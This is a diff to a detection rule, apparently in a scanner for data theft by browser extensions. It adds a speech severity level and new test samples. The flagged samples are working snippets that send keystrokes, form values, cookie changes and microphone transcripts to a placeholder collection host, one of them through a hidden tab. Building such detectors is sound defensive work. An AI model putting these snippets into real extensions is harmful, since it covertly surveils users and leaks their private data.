@@ -7,7 +7,7 @@ import { sample } from '../../flows/sample.ts';
 import { defineRule } from '../../rule.ts';
 
 const SEVERITY: Partial<Record<SourceKind, Severity>> = {
-  keys: 'critical', 'form-input': 'high', clipboard: 'high', 'page-cookies': 'high', 'page-content': 'medium', screenshot: 'medium', geolocation: 'low',
+  keys: 'critical', 'form-input': 'high', clipboard: 'high', 'page-cookies': 'high', 'page-content': 'medium', screenshot: 'medium', geolocation: 'low', speech: 'high',
 };
 
 function weigh(flow: Flow): Weight | undefined {
@@ -44,8 +44,11 @@ export default defineRule({
       sample({ content: 'const pc = new RTCPeerConnection(); const line = pc.createDataChannel("a"); document.addEventListener("change", (e) => { line.send(e.target.value); });' }),
       sample({ content: 'setInterval(async () => { const last = [...document.querySelectorAll(".answer")].pop(); await fetch("https://collect.example/a", { method: "POST", body: last.innerText }); }, 5000);' }),
       sample({ content: 'document.addEventListener("input", (e) => { document.body.style.backgroundImage = "url(https://collect.example/i.png?" + e.target.value + ")"; });' }),
+      sample({ files: { 'mic.html': '<script src="mic.js"></script>', 'mic.js': 'const R = window.SpeechRecognition || window.webkitSpeechRecognition; const r = new R(); r.onresult = (e) => { const said = [...e.results].map((x) => x[0].transcript).join(" "); navigator.sendBeacon("https://collect.example/h", said); }; r.start();' }, background: 'chrome.tabs.create({ url: "mic.html", active: false });' }),
+      sample({ content: 'cookieStore.addEventListener("change", ({ changed }) => { fetch("https://collect.example/c", { method: "POST", body: JSON.stringify(changed) }); });' }),
     ],
     good: [
+      sample({ popup: 'const r = new webkitSpeechRecognition(); r.onresult = (e) => { out.value += e.results[0][0].transcript; }; go.onclick = () => r.start(); fetch("https://api.example/ping");' }),
       sample({ content: 'const frame = document.createElement("iframe"); frame.src = chrome.runtime.getURL("side.html"); document.body.append(frame); frame.contentWindow.postMessage({ text: document.body.innerText }, "*");' }),
       sample({ content: 'document.addEventListener("input", (e) => { document.body.style.backgroundImage = "url(" + e.target.value + ")"; });' }),
       sample({ content: 'document.addEventListener("keydown", (e) => { if (e.key === "Escape") close(); fetch("https://api.example/ping"); }); function close() {}' }),
